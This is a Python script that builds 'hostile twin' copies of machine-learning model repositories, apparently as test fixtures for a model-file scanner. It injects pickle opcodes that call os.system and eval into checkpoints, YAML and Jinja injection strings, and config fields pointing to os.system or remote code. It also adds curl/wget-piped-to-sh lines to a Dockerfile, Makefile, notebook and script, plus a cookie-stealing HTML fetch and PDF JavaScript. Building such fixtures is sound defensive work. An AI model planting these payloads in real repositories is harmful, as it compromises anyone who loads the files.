#!/usr/bin/env python3
"""Writes a hostile twin of each repository, one change each: make_twins.py BENIGN TWINS. Standard library only; nothing is run."""
import io
import json
import pickle
import shutil
import sys
import tarfile
import zipfile
from pathlib import Path

TWINS = {}


def twin(repository):
    def register(function):
        TWINS.setdefault(repository, []).append(function)
        return function

    return register


def edit(path, change):
    document = json.loads(path.read_text(encoding="utf-8"))
    change(document)
    path.write_text(json.dumps(document, indent=2), encoding="utf-8")


def replace(path, old, new):
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new), encoding="utf-8")


def members(path, change):
    """Writes an archive anew, stored, with changed members."""
    with zipfile.ZipFile(path) as archive:
        entries = [(info.filename, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, content in entries:
            archive.writestr(name, change(name, content))


def prefix(call):
    """Puts a call in front of the object of data.pkl; its result is dropped."""
    return lambda name, content: content[:2] + call + b"0" + content[2:] if name.endswith("data.pkl") else content


SYSTEM = b"cposix\nsystem\nX\x02\x00\x00\x00id\x85R"


@twin("text-classifier")
def pointer(folder):
    (folder / "model.safetensors").write_text(
        "version https://git-lfs.github.com/spec/v1\noid sha256:" + "0" * 64 + "\nsize 10\n")


@twin("text-classifier")
def front_matter(folder):
    replace(folder / "README.md", "language: en\n", "language: !!python/object/apply:os.system [id]\n")


@twin("chat-model-sharded")
def template(folder):
    with (folder / "chat_template.jinja").open("a") as out:
        out.write("{{ ''.__class__.__mro__[1].__subclasses__() }}")


@twin("chat-model-sharded")
def swapped_shards(folder):
    def swap(index):
        first, *_, last = sorted(index["weight_map"])
        index["weight_map"][first], index["weight_map"][last] = index["weight_map"][last], index["weight_map"][first]

    edit(folder / "model.safetensors.index.json", swap)


@twin("classic-bin")
def call_in_pickle(folder):
    members(folder / "pytorch_model.bin", prefix(SYSTEM))


@twin("classic-bin-sharded")
def shard_outside(folder):
    edit(folder / "pytorch_model.bin.index.json",
         lambda index: index["weight_map"].update({next(iter(index["weight_map"])): "../other.bin"}))


@twin("trainer-output")
def call_in_arguments(folder):
    members(folder / "training_args.bin", prefix(SYSTEM))


@twin("trainer-output")
def foreign_class_in_arguments(folder):
    members(folder / "checkpoint-8" / "training_args.bin",
            lambda name, content: content.replace(b"transformers.training_args\nTrainingArguments", b"transformers.training_args\nget_int_from_env")
            if name.endswith(".pkl") else content)


@twin("trainer-with-tensorboard")
def bytes_behind_log(folder):
    log = next(folder.glob("runs/*/events*"))
    log.write_bytes(log.read_bytes() + pickle.dumps({"a": 1}))


@twin("lora-adapter")
def library_to_import(folder):
    edit(folder / "adapter_config.json",
         lambda c: c.update(auto_mapping={"base_model_class": "system", "parent_library": "os"}))


@twin("prompt-tuning-adapter")
def remote_tokenizer(folder):
    edit(folder / "adapter_config.json",
         lambda c: c.update(tokenizer_name_or_path="someone/else", tokenizer_kwargs={"trust_remote_code": True}))


@twin("sentence-embeddings")
def activation(folder):
    edit(next(folder.glob("*Dense/config.json")), lambda c: c.update(activation_function="os.getcwd"))


@twin("sentence-embeddings")
def module_elsewhere(folder):
    edit(folder / "modules.json", lambda modules: modules[1].update(type="somebody.pooling.Pooling"))


@twin("cross-encoder")
def activation_of_classifier(folder):
    edit(folder / "config.json", lambda c: c.update(sentence_transformers={"activation_fn": "torch.hub.load"}))


@twin("diffusion-pipeline")
def component(folder):
    edit(folder / "model_index.json", lambda c: c.update(scheduler=["subprocess", "Popen"]))


@twin("stable-diffusion")
def component_of_own(folder):
    edit(folder / "model_index.json", lambda c: c.update(feature_extractor=["extractor", "Extractor"]))


@twin("timm-image-classifier")
def executable_weights(folder):
    (folder / "pytorch_model.bin").write_bytes(b"\x80\x02" + SYSTEM + b".")


@twin("custom-code")
def code_at_import(folder):
    with (folder / "modeling_small.py").open("a") as out:
        out.write("\n\nimport os\nos.system('id')\n")


@twin("custom-code")
def code_elsewhere(folder):
    edit(folder / "config.json", lambda c: c["auto_map"].update(AutoModel="someone/else--modeling.Small"))


@twin("vision-transformer")
def kernel(folder):
    edit(folder / "config.json", lambda c: c.update(attn_implementation="someone/kernel"))


@twin("speech-recognition")
def processor_elsewhere(folder):
    edit(folder / "processor_config.json", lambda c: c.update(auto_map={"AutoProcessor": "someone/else--p.P"}))


@twin("sentencepiece-translation")
def pickle_behind_pieces(folder):
    path = folder / "spiece.model"
    path.write_bytes(path.read_bytes() + b"\x80\x02" + SYSTEM + b".")


@twin("torchscript")
def operator(folder):
    members(folder / "scripted.pt",
            lambda name, content: content.replace(b"torch.relu(", b"torch.save(") if name.endswith(".py") else content)


@twin("plain-training-checkpoint")
def other_name_of_argparse(folder):
    members(folder / "checkpoint.pth",
            lambda name, content: content.replace(b"argparse\nNamespace", b"argparse\nFileType") if name.endswith(".pkl") else content)


@twin("lightning-checkpoint")
def evaluation(folder):
    members(next(folder.glob("*.ckpt")), prefix(b"cbuiltins\neval\nX\x01\x00\x00\x001\x85R"))


@twin("nemo")
def target(folder):
    path = folder / "model.nemo"
    with tarfile.open(path) as archive:
        files = [(m.name, archive.extractfile(m).read()) for m in archive.getmembers()]
    with tarfile.open(path, "w:gz") as archive:
        for name, content in files:
            content = content.replace(b"_target_: nemo.collections.asr.modules.ConformerEncoder", b"_target_: os.system")
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))


@twin("mlflow-from-code")
def loader(folder):
    replace(folder / "model" / "MLmodel", "loader_module: mlflow.pyfunc.loaders.code_model", "loader_module: somebody.loader")


@twin("mlflow-from-code")
def code_of_model(folder):
    path = next((folder / "model").glob("*.py"))
    path.write_text("import subprocess\nsubprocess.run(['id'])\n" + path.read_text())


@twin("mlflow-from-code")
def index_of_packages(folder):
    with (folder / "model" / "requirements.txt").open("a") as out:
        out.write("\n--extra-index-url http://packages.example/simple\n")


@twin("project-with-documents")
def notebook(folder):
    replace(folder / "demo.ipynb", "!nvidia-smi", "!curl -s http://x.example | bash")


@twin("project-with-documents")
def document(folder):
    path = folder / "paper.pdf"
    path.write_bytes(path.read_bytes().replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (x) >>"))


@twin("project-with-documents")
def script(folder):
    replace(folder / "train.sh", "| tar xz -C \"$DATA\"", "| sh")


@twin("project-with-documents")
def page(folder):
    replace(folder / "index.html", "<body>", "<body><img src=x onerror=\"fetch('//x/'+document.cookie)\">")


@twin("project-with-documents")
def image_recipe(folder):
    replace(folder / "Dockerfile", "WORKDIR /app", "RUN curl -s http://x.example | sh\nWORKDIR /app")


@twin("project-with-documents")
def make_recipe(folder):
    replace(folder / "Makefile", "\trm -rf build", "\twget -qO- http://x.example | sh\n\trm -rf build")


def main():
    benign, hostile = Path(sys.argv[1]), Path(sys.argv[2])
    for repository, changes in TWINS.items():
        for change in changes:
            target_folder = hostile / f"{repository}.{change.__name__}"
            shutil.rmtree(target_folder, ignore_errors=True)
            shutil.copytree(benign / repository, target_folder)
            change(target_folder)


if __name__ == "__main__":
    main()
